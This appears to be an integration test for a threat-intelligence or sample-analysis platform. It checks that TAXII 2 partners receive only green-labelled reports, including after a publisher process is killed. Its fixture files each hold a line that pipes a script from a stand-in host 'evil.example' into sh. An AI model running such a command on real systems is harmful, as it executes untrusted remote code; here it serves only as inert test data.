import assert from "node:assert/strict";
import { type Platform, startPlatform, until } from "../platform/platform.ts";
import { type Received, startPartner } from "./partner.ts";

const script = (number: number) =>
  new File([`#!/bin/sh\ncurl http://evil.example/${number}.sh | sh\n`], `install-${number}.sh`);

async function submit(platform: Platform, tlp: string, files: readonly File[]): Promise<string[]> {
  const body = new FormData();
  for (const file of files) body.append("file", file);
  body.append("options", JSON.stringify({ priority: "interactive", tlp }));
  type Submission = { tasks: { sha256: string }[] };
  const { tasks } = await platform.ask<Submission>("/api/v1/submissions", { method: "POST", body });
  return tasks.map(({ sha256 }) => sha256);
}

const post = (method: string, body: unknown) => ({
  method,
  headers: { "content-type": "application/json" },
  body: JSON.stringify(body),
});

Deno.test("partners get by taxii2-client what a running platform finds, also where its publisher is killed, and a search that is published", async () => {
  await using platform = await startPlatform({ onTestStack: true });
  await using partner = await startPartner();
  const made = await platform.ask<{ text: string }>(
    "/api/v1/keys",
    post("POST", { name: "partner", scopes: ["taxii"], maxTlp: "green" }),
  );
  const access = { user: "partner", password: made.text };
  const discover = () => partner.discover({ url: new URL("/taxii2/", platform.url).href, ...access });
  assert.equal((await discover()).default, new URL("/taxii2/assay/", platform.url).href);
  const root = await until("the collections of what the key may read, and no other", 30_000, async () => {
    const [found] = (await discover()).roots;
    const kept = await platform.ask<{ collections: unknown[] }>("/taxii2/assay/collections/");
    return found!.collections.length === 2 && kept.collections.length === 2 ? found! : null;
  });
  const at = (collection: string) => ({ url: `${root.url}collections/${collection}/`, ...access });
  const green = root.collections.find(({ alias }) => alias === "tlp-green")!.id;
  const walk = (collection: string) => partner.walk(at(collection), { limit: 50, what: "objects" });
  const samples = (objects: readonly Received[]) =>
    objects.filter(({ type }) => type === "report").map(({ name }) => String(name).slice(-64)).sort();
  const holding = (collection: string, wanted: readonly string[]) =>
    until(`${wanted.length} reports in '${collection}'`, 120_000, async () => {
      const objects = await walk(collection);
      return samples(objects).length >= wanted.length ? objects : null;
    });

  const first = await submit(platform, "green", [script(1), script(2)]);
  const hidden = await submit(platform, "amber", [script(3)]);
  assert.deepEqual(samples(await holding(green, first)), first.toSorted());

  const more = await submit(platform, "green", Array.from({ length: 20 }, (_, at) => script(10 + at)));
  await until("the first of them", 120_000, async () => samples(await walk(green)).length > 2 ? true : null);
  Deno.kill((await platform.status()).processes.find(({ name }) => name === "reports")!.pid!, "SIGKILL");
  const all = [...first, ...more].sort();
  const objects = await holding(green, all);
  assert.deepEqual(samples(objects), all);
  assert.equal(new Set(objects.map(({ id }) => id)).size, objects.length);
  assert.equal(JSON.stringify(objects).includes(hidden[0]!), false);
  assert.deepEqual(await partner.validate(objects, true), []);

  const body = { name: "One script", q: `sha256:${first[0]}`, tlp: null };
  const { id } = await platform.ask<{ id: string }>("/api/v1/searches", post("POST", body));
  const { collectionId } = await platform.ask<{ collectionId: string }>(
    `/api/v1/searches/${id}/publication`,
    post("PUT", { tlp: "green" }),
  );
  assert.deepEqual(samples(await holding(collectionId, [first[0]!])), [first[0]]);
});
